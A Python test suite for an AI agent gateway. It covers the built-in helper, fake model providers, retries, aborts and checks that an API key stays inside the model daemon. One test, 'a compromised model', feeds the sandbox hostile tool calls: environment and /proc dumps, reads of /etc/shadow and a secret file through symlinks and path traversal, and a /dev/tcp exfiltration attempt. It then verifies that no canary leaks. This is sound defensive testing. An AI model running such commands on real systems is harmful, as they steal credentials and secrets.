# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The gatewayd developers
"""Whole gateways and models: the built-in helper for whoever has no key, and
providers with one (played by the fakes), in each privilege mode."""
import asyncio
import json
import os
import pathlib
import time

import pytest

from anthropic import Anthropic
from gateway import RpcError, modes, wait_for
from modelrig import KEY, can_read_memory, holds
from openai import OpenAI

FAKES = {"anthropic-messages": (Anthropic, ""),
         "openai-completions": (OpenAI, "/v1")}
CALL = [{"name": "exec", "args": {"command": "echo from-the-jail"}}]


@pytest.fixture(params=list(FAKES))
def api(request):
    return request.param


@pytest.fixture
def fake(api):
    f = FAKES[api][0](key=KEY).start()
    yield f
    f.stop()


def config(fake, api, **model):
    return {"models": {"providers": {"fake": {
        "api": api, "baseUrl": fake.origin + FAKES[api][1],
        "apiKey": "${FAKE_KEY}", "models": [
            {"id": "m", "name": "M", "contextWindow": 100000,
             "maxTokens": 4096, **model}]}}},
        "agents": {"defaults": {"model": "fake/m"}},
        "tools": {"exec": {"security": "full"}}}


@pytest.fixture(params=modes())
def gw(request, make_gateway, fake, api):
    return make_gateway(config(fake, api), mode=request.param,
                        env={"FAKE_KEY": KEY})


def talk(gw, *texts):
    async def go():
        async with gw.client() as c:
            return [await c.chat(t) for t in texts], c.events
    return asyncio.run(go())


# --- no key at all ---------------------------------------------------------


def test_newcomer_without_a_key(gateway):
    """Ask what it can do; have a file written, listed, read, edited, a command
    run, the time told, the gateway diagnosed: all by real tool calls."""
    said, events = talk(
        gateway, "what can you do?", "create a file notes.txt with: buy milk",
        "list files", "read notes.txt", "replace milk by tea in notes.txt",
        "read notes.txt", "run: expr 6 '*' 7", "what time is it?",
        "check everything", "create a file notes.txt with: gone", "no",
        "read notes.txt")
    (can, wrote, listed, read, edited, again, ran, now, checked, ask, no,
     last) = said
    assert "list files" in can and "Check" in can
    assert "8 bytes" in wrote
    assert "notes.txt" in listed
    assert "buy milk" in read
    assert "- buy milk" in edited and "+ buy tea" in edited
    assert "buy tea" in again
    assert "42" in ran
    assert time.strftime("%Y-") in now
    assert "I checked" in checked
    assert "Overwrite it?" in ask and "nothing was changed" in no
    assert "buy tea" in last
    tools = [e["payload"]["data"]["name"] for e in events
             if e["event"] == "agent" and e["payload"]["stream"] == "tool"
             and e["payload"]["data"]["phase"] == "start"]
    assert tools == ["read", "write", "ls", "read", "read", "edit", "read",
                     "exec", "exec", "diagnose", "read", "read"]


def test_newcomer_in_chinese(gateway):
    said, _ = talk(gateway, "你能做什么？", "创建文件 笔记.txt 内容是 买牛奶",
                   "列出文件", "读取 笔记.txt", "现在几点了？",
                   "运行：echo 你好", "诊断网关", "写一首诗")
    assert "列出文件" in said[0]
    assert "已写入" in said[1]
    assert "笔记.txt" in said[2]
    assert "买牛奶" in said[3]
    assert "现在是 2" in said[4]
    assert "你好" in said[5]
    assert "检查了" in said[6]
    assert "没听懂" in said[7] and "1." in said[7]


def test_newcomer_takes_the_tour(gateway):
    said, events = talk(gateway, "show me a demo")
    assert "Denied, as it should be." in said[0]
    tools = [e["payload"]["data"]["name"] for e in events
             if e["event"] == "agent" and e["payload"]["stream"] == "tool"
             and e["payload"]["data"]["phase"] == "start"]
    assert tools == ["ls", "read", "write", "read", "exec", "read"]


# --- providers -------------------------------------------------------------


def test_turn_with_a_tool_call(gw, fake):
    fake.answer(think="hm", text="Let me see.", calls=CALL)
    fake.answer(text="It says from-the-jail.")
    fake.answer(text="You are welcome.")
    said, _ = talk(gw, "do it", "thanks")
    assert said == ["It says from-the-jail.", "You are welcome."]
    assert fake.violations == []
    assert len(fake.requests) == 3
    assert "from-the-jail" in json.dumps(fake.requests[1].json["messages"])
    # The prefix stays as it was, or no provider's cache could work.
    first, last = (json.dumps(fake.requests[i].json["messages"][:1])
                   for i in (0, 2))
    assert first == last


def test_rate_limit_is_waited_for(gw, fake):
    fake.answer(status=429, headers={"retry-after-ms": "300"})
    fake.answer(text="second try")
    begin = time.monotonic()
    said, _ = talk(gw, "hi")
    assert said == ["second try"]
    assert time.monotonic() - begin > 0.25
    assert len(fake.requests) == 2


def test_a_cut_before_anything_was_shown_is_tried_again(gw, fake):
    fake.answer(text="never", cut=0)
    fake.answer(text="whole")
    said, _ = talk(gw, "hi")
    assert said == ["whole"]


def test_abort_reaches_the_provider(gw, fake):
    fake.answer(text="one two three", stall=True)

    async def go():
        async with gw.client() as c:
            await c.call("chat.send", {"sessionKey": "main", "message": "hi",
                                       "idempotencyKey": "run-abort"})
            await c.event(lambda m: m["event"] == "chat" and
                          m["payload"]["state"] == "delta")
            await c.call("chat.abort", {"sessionKey": "main",
                                        "runId": "run-abort"})
            await c.event(lambda m: m["event"] == "chat" and
                          m["payload"]["state"] == "aborted")
            return await c.chat("again")

    assert asyncio.run(go()).startswith("You said: ")
    wait_for(lambda: fake.aborted == 1, what="the connection to end")


def test_T40_a_refused_key_is_not_told(gw, fake):
    fake.key = "another"

    async def go():
        async with gw.client() as c:
            await c.call("chat.send", {"sessionKey": "main", "message": "hi",
                                       "idempotencyKey": "run-auth"})
            return await c.event(lambda m: m["event"] == "chat" and
                                 m["payload"]["state"] == "error")

    e = asyncio.run(go())
    text = json.dumps(e)
    assert "401" in text or "key" in text.lower()
    assert KEY not in text
    assert KEY not in gw.output() and KEY not in gw.logs()


def test_T40_who_has_the_key(gw, fake):
    """agentd and all others but modeld: not in environment, arguments, memory;
    nor in any file, nor in what a client can ask for."""
    fake.answer(text="Let me see.", calls=CALL)
    fake.answer(text="done")
    talk(gw, "do it")
    procs = gw.processes()
    assert any(n.startswith("modeld/") for n in procs)
    for name, p in procs.items():
        # The supervisor was given it, in its environment, by whoever
        # started it.
        if name == "gatewayd" or not p.get("pid") or not can_read_memory():
            continue
        for part in ("environ", "cmdline"):
            with open(f"/proc/{p['pid']}/{part}", "rb") as f:
                assert KEY.encode() not in f.read(), (name, part)
        if not name.startswith("modeld/"):
            assert not holds(p["pid"], KEY), name
    for f in pathlib.Path(gw.state).rglob("*"):
        try:
            if f.is_file() and not f.is_symlink():
                assert KEY.encode() not in f.read_bytes(), f
        except FileNotFoundError:
            pass                # one that is only there while it is written
    for method in ("config.get", "models.list", "status", "health",
                   "gateway.processes"):
        try:
            assert KEY not in json.dumps(gw.call(method)), method
        except RpcError:
            pass
    assert KEY not in gw.output() + gw.logs()


def test_T52_a_compromised_model(api, fake, make_gateway):
    """A provider that sends the attacker's calls: no canary leaves."""
    gw = make_gateway(config(fake, api), start=False, env={
        "FAKE_KEY": KEY, "CANARY_ENV": "canary-in-the-environment"})
    secret = gw.dir / "secret"
    secret.write_text("canary-in-a-file")
    os.chmod(secret, 0o644)
    gw.start()
    for cmd in ("env; set; cat /proc/*/environ; cat /proc/*/cmdline",
                f"cat {secret} {gw.config_path} {gw.state}/* ; ls -laR {gw.dir}",
                f"cat /proc/{os.getpid()}/root{secret} /proc/1/root{secret}",
                "cat /etc/shadow ~/.openclaw/openclaw.json",
                f"ln -s {secret} leak; cat leak; cat ../../../../..{secret}",
                f"timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{fake.port};"
                " echo GET /stolen >&3'"):
        fake.answer(calls=[{"name": "exec", "args": {"command": cmd}}])
    fake.answer(calls=[{"name": "read", "id": f"t{i}", "args": {"path": p}}
                       for i, p in enumerate(
                           ["/etc/shadow", str(secret), "leak",
                            "../../openclaw.json", f"/proc/self/root{secret}"])])
    fake.answer(text="done")
    said, _ = talk(gw, "go")
    assert said == ["done"]
    sent = json.dumps([r.json["messages"][2:] for r in fake.requests])
    assert len(sent) > 1000
    for canary in (KEY, gw.token, "canary-in-the-environment",
                   "canary-in-a-file"):
        assert canary not in sent
    if os.geteuid() == 0:
        for line in open("/etc/shadow", encoding="utf-8"):
            assert line.strip() not in sent
    # Nothing reached the provider but modeld's own requests.
    assert all(r.path.endswith(("/messages", "/completions"))
               for r in fake.requests)


@pytest.mark.parametrize("mode", modes())
def test_script_from_the_configuration(make_gateway, mode):
    gw = make_gateway({"models": {"builtin": {"script": """@cassette 1
@turn user~"go"
  text "Looking."
  call exec {"command": "echo 42"}
@turn result exec ok
  text "It said {{result.text|lines:1-1}}."
"""}}, "agents": {"defaults": {"model": "builtin/script"}}}, mode=mode)
    said, _ = talk(gw, "go")
    assert said == ["It said 42."]
